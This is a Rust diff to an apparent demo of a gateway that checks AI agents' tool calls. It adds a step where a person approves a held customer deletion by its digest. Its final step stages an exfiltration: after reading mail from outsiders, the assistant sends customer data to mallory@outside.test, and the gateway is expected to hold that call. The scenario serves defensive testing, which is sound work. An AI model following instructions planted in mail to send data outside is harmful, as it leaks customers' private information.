@@ -32,18 +32,22 @@ struct Step {
 }
 
 enum Call {
+    /// The person reads the call that waits, and approves exactly that one.
+    Approve,
     Http(&'static str, &'static str),
     Tool(&'static str, Value),
 }
 
 /// What each step teaches.
-const LESSONS: [&str; 9] = [
+const LESSONS: [&str; 11] = [
     "a listed read of an agent in good standing goes through",
     "HTTP APIs pass the same stages as MCP tools",
     "the same tool, twice more",
     "three reads a minute per agent and tool: the answer says when to come back",
     "the reporter is read-only: nothing reaches the tool",
     "high consequence waits for people; nothing is sent meanwhile",
+    "whoever decides sees the very call, and the vote carries its digest",
+    "the same call again joins its hold, which is approved: it runs, once",
     "an internal address makes this a write, and a harmless one",
     "its mails are confidential, and outsiders wrote some of them: the run is labelled",
     "read, then send outside: two harmless steps that together carry data out",
@@ -57,7 +61,7 @@ fn steps() -> Vec<Step> {
     let delete = || tool("delete_customer", json!({"id": "C-1007"}));
     let mail = |to: &str, body: &str| tool("send_email", json!({"to": to, "subject": "Hello", "body": body}));
     let invoice = Call::Http("GET", "/billing/v1/invoices/1001");
-    let list: [(_, _, _, Call, _); 10] = [
+    let list: [(_, _, _, Call, _); 12] = [
         ("Search customers", LESSONS[0], "assistant", search(), "allowed"),
         ("Get an invoice over plain HTTP", LESSONS[1], "assistant", invoice, "allowed"),
         ("Search again", LESSONS[2], "assistant", search(), "allowed"),
@@ -65,17 +69,19 @@ fn steps() -> Vec<Step> {
         ("… and once too often", LESSONS[3], "assistant", search(), "limited"),
         ("Delete a customer, as the reporter", LESSONS[4], "reporter", delete(), "denied"),
         ("Delete a customer, as the assistant", LESSONS[5], "assistant", delete(), "pending"),
+        ("Approve it, as olga, who is on call", LESSONS[6], "olga", Call::Approve, "approved"),
+        ("Delete the customer, the very same call", LESSONS[7], "assistant", delete(), "allowed"),
         (
             "Mail to a colleague",
-            LESSONS[6],
+            LESSONS[8],
             "assistant",
             mail("ana@example.org", "See you at ten."),
             "allowed",
         ),
-        ("Read the inbox", LESSONS[7], "assistant", tool("read_inbox", json!({})), "allowed"),
+        ("Read the inbox", LESSONS[9], "assistant", tool("read_inbox", json!({})), "allowed"),
         (
             "Send what a mail asked for to its author",
-            LESSONS[8],
+            LESSONS[10],
             "assistant",
             mail("mallory@outside.test", "C-1007 Ana Weber"),
             "pending",
@@ -85,7 +91,7 @@ fn steps() -> Vec<Step> {
         .into_iter()
         .map(|(title, lesson, agent, call, expected)| step(title, lesson, agent, call, expected))
         .collect();
-    for at in [0, 5, 9] {
+    for at in [0, 5, 11] {
         if let Some(step) = steps.get_mut(at) {
             step.traced = true;
         }
@@ -119,20 +125,25 @@ async fn play(once: bool, format: Format) -> Result<u8, Failure> {
              Every agent proves itself by its own certificate. Policies: the shipped set.\n"
         );
     }
-    let (assistant, reporter) = (scene.agent("assistant")?, scene.agent("reporter")?);
+    let (assistant, reporter, olga) = (scene.agent("assistant")?, scene.agent("reporter")?, scene.person()?);
     let mut results = Vec::new();
     let mut wrong = 0;
     for (at, step) in steps().iter().enumerate() {
-        let agent = if step.agent == "reporter" { &reporter } else { &assistant };
+        let agent = match step.agent {
+            "olga" => &olga,
+            "reporter" => &reporter,
+            _ => &assistant,
+        };
         let before = scene.mail.seen().len() + scene.billing.seen().len();
         let answer = step.call.make(agent).await?;
         let reached = scene.mail.seen().len() + scene.billing.seen().len() > before;
-        let as_expected = answer.outcome() == step.expected && reached == (step.expected == "allowed");
+        let outcome = step.call.outcome(&answer);
+        let as_expected = outcome == step.expected && reached == (step.expected == "allowed");
         wrong += u8::from(!as_expected);
         if format == Format::Text {
             print(at + 1, step, &answer, reached, &scene).await?;
         }
-        results.push(json!({"step": step.title, "outcome": answer.outcome(), "expected": step.expected,
+        results.push(json!({"step": step.title, "outcome": outcome, "expected": step.expected,
             "reached_upstream": reached, "record": answer.record()}));
     }
     let code = finish(&scene, &results, wrong, format)?;
@@ -146,8 +157,25 @@ async fn play(once: bool, format: Format) -> Result<u8, Failure> {
 impl Call {
     async fn make(&self, agent: &Agent) -> Result<Answer, Failure> {
         match self {
+            Call::Approve => {
+                let waiting = agent.http("GET", "/v1/holds?state=pending", None).await?.json();
+                let hold = waiting.pointer("/holds/0").ok_or("no call waits")?;
+                let text = |key| hold.get(key).and_then(Value::as_str).unwrap_or_default();
+                let say = json!({"digest": text("digest"), "reason": "the customer asked for it in writing"});
+                agent.http("POST", &format!("/v1/holds/{}/approve", text("id")), Some(say)).await
+            }
             Call::Http(method, path) => agent.http(method, path, None).await,
             Call::Tool(name, arguments) => agent.tool("mail", name, arguments.clone()).await,
+        }
+    }
+
+    fn outcome(&self, answer: &Answer) -> String {
+        match self {
+            Call::Approve => {
+                let state = answer.json().get("state").and_then(Value::as_str).map(str::to_owned);
+                state.unwrap_or_else(|| answer.status.to_string())
+            }
+            Call::Http(..) | Call::Tool(..) => answer.outcome(),
         }
     }
 }
@@ -164,11 +192,16 @@ async fn print(
         println!("   {}", step.lesson);
     }
     let asked = match &step.call {
+        Call::Approve => "POST /v1/holds/{id}/approve, with the call's digest".to_owned(),
         Call::Http(method, path) => format!("{method} {path}"),
         Call::Tool(name, arguments) => format!("mail.{name} {arguments}"),
     };
     println!("   {} calls  {asked}", step.agent);
-    println!("   decision  {}", verdict(answer, reached));
+    let decision = match step.call {
+        Call::Approve => format!("{}: the call may run, once", step.call.outcome(answer)),
+        Call::Http(..) | Call::Tool(..) => verdict(answer, reached),
+    };
+    println!("   decision  {decision}");
     let records = tail::find(&scene.audit(), &answer.record())?;
     for record in &records {
         println!("   record    {}", tail::summary(record));
